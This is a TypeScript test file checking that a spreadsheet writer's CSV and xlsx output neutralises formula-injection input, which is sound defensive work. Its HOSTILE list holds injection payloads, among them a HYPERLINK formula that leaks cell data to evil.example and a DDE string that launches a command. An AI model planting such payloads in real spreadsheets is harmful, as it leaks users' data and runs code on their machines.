import { describe, expect, it } from "vitest";
import ExcelJS from "exceljs";
import { parseCsv } from "@/lib/domain/spreadsheets/csv";
import { addSheetRow, csvField, csvFile, csvRow, neutraliseText, restoreText, xlsxValue } from "@/lib/domain/spreadsheets/write";

// Hostile names a coordinator or grower could type into a variety, site, trait or note.
const HOSTILE = [
  "Ember;=1+1",
  "=1+1",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "@SUM(1)",
  "+39 555 0100",
  "-2+3",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "\uFF1D1+1",
  'say "hi", then; leave\r\nnext line',
  "'=already quoted",
];

/** The cells a spreadsheet would read from one CSV line, with `sep` as its list separator (as Excel does per locale). */
function cellsAs(line: string, sep: "," | ";"): string[] {
  // parseCsv guesses the separator from the first line; a header of separators makes the guess explicit.
  const header = sep.repeat(12);
  return parseCsv(`${header}\n${line}\n`)[1]!;
}

describe("the spreadsheet writer", () => {
  it("a CSV cell never starts a formula, whether the list separator is a comma or a semicolon", () => {
    for (const text of HOSTILE) {
      const line = csvRow(["Plot 1", text, 12.5]);
      // Read with commas, the hostile text is one cell (quoted) and comes back exactly.
      const cells = cellsAs(line, ",");
      expect(cells).toHaveLength(3);
      expect(restoreText(cells[1]!)).toBe(text);
      // Read where ";" is the list separator, quotes in mid-field count for nothing and the line splits at
      // every ";": still no piece may start a formula.
      for (const cell of [...cells, ...cellsAs(line, ";")]) expect(cell).not.toMatch(/^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/);
    }
  });

  it("quotes separators, quotes and line breaks and doubles quotes (RFC 4180)", () => {
    expect(csvField("Ember;Red")).toBe('"Ember;Red"');
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("plain")).toBe("plain");
  });

  it("keeps genuine numbers as numbers, negative ones included, and neutralises text that starts like a formula", () => {
    expect(csvRow([-4.5, 0, 1e-7, Number.NaN, Number.POSITIVE_INFINITY, null, undefined, true])).toBe("-4.5,0,1e-7,,,,,true");
    expect(csvField("-4.5")).toBe("'-4.5");
    expect(csvField("-x")).toBe("'-x");
    expect(csvField("+39 555")).toBe("'+39 555");
    expect(csvField("@cmd")).toBe("'@cmd");
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("\t=1")).toBe("\"'\t'=1\"");
    expect(csvField("Ember;=1+1")).toBe("\"Ember;'=1+1\"");
    expect(csvField("Copper Ruffle")).toBe("Copper Ruffle");
    expect(csvField(new Date("2026-05-01T00:00:00Z"))).toBe("2026-05-01");
  });

  it("restores exactly what was neutralised, and leaves other apostrophes alone", () => {
    for (const text of [...HOSTILE, "'plain", "''", "it's"]) expect(restoreText(neutraliseText(text))).toBe(text);
    expect(neutraliseText("'=x")).toBe("''=x");
    expect(neutraliseText("eaten; -2 lost, @home")).toBe("eaten;' -2 lost,' @home");
    expect(restoreText("'hello")).toBe("'hello");
  });

  it("writes a whole file with a byte-order mark and CRLF line ends", () => {
    expect(csvFile([["a", "b"], ["=1", 2]])).toBe("\uFEFFa,b\r\n'=1,2\r\n");
  });

  it("an xlsx cell holding hostile text is a plain string, never a formula, and numbers stay numbers", async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet("t");
    for (const text of HOSTILE) addSheetRow(sheet, [text, -3.25]);
    const again = new ExcelJS.Workbook();
    await again.xlsx.load((await book.xlsx.writeBuffer()) as ArrayBuffer);
    const read = again.getWorksheet("t")!;
    HOSTILE.forEach((text, i) => {
      const cell = read.getCell(i + 1, 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      // XML keeps line breaks as LF, so a CR comes back as a LF.
      expect(restoreText(String(cell.value))).toBe(text.replace(/\r\n?/g, "\n"));
      expect(String(cell.value)).not.toMatch(/^[\s\u3000]*[=+\-@\uFF1D]/);
      expect(read.getCell(i + 1, 2).value).toBe(-3.25);
    });
    expect(xlsxValue(Number.NaN)).toBeNull();
    expect(xlsxValue({ formula: "1+1" } as unknown as string)).toBe("[object Object]");
  });
});
